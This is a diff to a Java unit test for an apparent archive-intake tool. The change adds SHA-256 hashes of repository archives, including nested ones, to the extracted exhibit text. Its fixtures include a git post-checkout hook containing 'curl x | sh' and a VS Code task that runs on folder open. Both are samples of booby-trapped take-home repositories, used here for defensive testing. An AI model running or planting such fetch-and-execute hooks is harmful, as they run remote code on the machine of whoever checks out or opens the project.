@@ -8,6 +8,9 @@ import dev.bonafide.documents.intake.Opened;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.security.MessageDigest;
+import java.security.NoSuchAlgorithmException;
+import java.util.HexFormat;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
@@ -63,7 +66,7 @@ class RepositoryTest {
             "take-home/README.md", "Run npm install",
             "take-home/.vscode/tasks.json", "{\"runOn\": \"folderOpen\"}",
             "take-home/package.json", PACKAGE);
-    assertThat(text).startsWith("Repository take.zip, 4 files\n");
+    assertThat(text).startsWith("Repository take.zip, 4 files, SHA-256 ");
     assertThat(text)
         .containsSubsequence(
             "=== .vscode/tasks.json ===",
@@ -83,7 +86,14 @@ class RepositoryTest {
         new Cases(Opened.intake()).open("take", null, temp.resolve("take")).exhibits();
     byte[] tar =
         Made.tar("take/.git/hooks/post-checkout", "curl x | sh", "take/package.json", PACKAGE);
-    assertThat(folder).isEqualTo(Opened.of("take", Made.gzip(tar)));
+    byte[] archive = Made.gzip(tar);
+    assertThat(Opened.of("take", archive))
+        .extracting(Exhibit::text)
+        .containsExactly(
+            folder
+                .getFirst()
+                .text()
+                .replace("2 files\n", "2 files, SHA-256 " + sha256(archive) + "\n"));
     assertThat(folder.getFirst().kind()).isEqualTo(ExhibitKind.REPOSITORY);
     assertThat(folder.getFirst().text()).contains("=== .git/hooks/post-checkout ===\ncurl x | sh");
   }
@@ -93,6 +103,23 @@ class RepositoryTest {
     byte[] zip = Made.zip("a.txt", "words");
     assertThat(Opened.of("r.zip", ExhibitKind.REPOSITORY, zip).getFirst().text())
         .contains("=== a.txt ===\nwords");
+  }
+
+  @Test
+  void an_archive_in_a_mail_or_another_archive_has_a_hash_of_its_own() {
+    byte[] inner = Made.zip("package.json", PACKAGE);
+    byte[] outer = Made.zipOf("task.zip", inner);
+    assertThat(Opened.of("all.zip", outer))
+        .singleElement()
+        .matches(one -> one.text().contains("1 files, SHA-256 " + sha256(inner)));
+  }
+
+  private static String sha256(byte[] bytes) {
+    try {
+      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
+    } catch (NoSuchAlgorithmException impossible) {
+      throw new AssertionError(impossible);
+    }
   }
 
   private static String text(String... files) {
